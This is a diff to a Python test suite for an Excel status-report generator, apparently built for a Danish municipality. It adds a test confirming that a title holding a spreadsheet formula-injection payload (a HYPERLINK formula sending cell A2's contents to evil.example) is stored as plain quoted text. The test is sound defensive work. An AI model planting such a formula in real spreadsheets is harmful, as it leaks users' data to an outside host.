@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import base64
+import dataclasses
 import datetime as dt
 import hashlib
 import re
 import shutil
 import struct
 import subprocess
+import zipfile
 from pathlib import Path
 
 import lxml.html
@@ -412,6 +414,17 @@ class DescribeTheWorkbook:
         assert values["Inviteret"] == 98 and values["Forsinkede"] == 0
         assert values["Godkendt af kommunalbestyrelsen"] == 2
         assert values["Frist for tilmelding"] == dt.datetime(2021, 8, 16, 12, 0)
+
+    def it_writes_a_title_excel_would_run_as_a_formula_as_text(self, built, tmp_path):
+        report = follow_up(EXAMPLE_DIR, built, date=LATER)
+        hostile = '=HYPERLINK("http://evil.example/?"&A2,"Klik her")'
+        report = dataclasses.replace(report, program=report.program.model_copy(update={"title": hostile}))
+        path = tmp_path / "status.xlsx"
+        path.write_bytes(workbook(report))
+        with zipfile.ZipFile(path) as archive:
+            assert b"<f>" not in archive.read("xl/worksheets/sheet2.xml")
+        title = openpyxl.load_workbook(path)["Overblik"]["A1"]
+        assert (title.value, title.data_type, title.quotePrefix) == (hostile, "s", True)
 
     def it_is_the_same_bytes_for_the_same_report_and_valid_office_xml(self, built, tmp_path):
         report = follow_up(EXAMPLE_DIR, built, date=LATER)
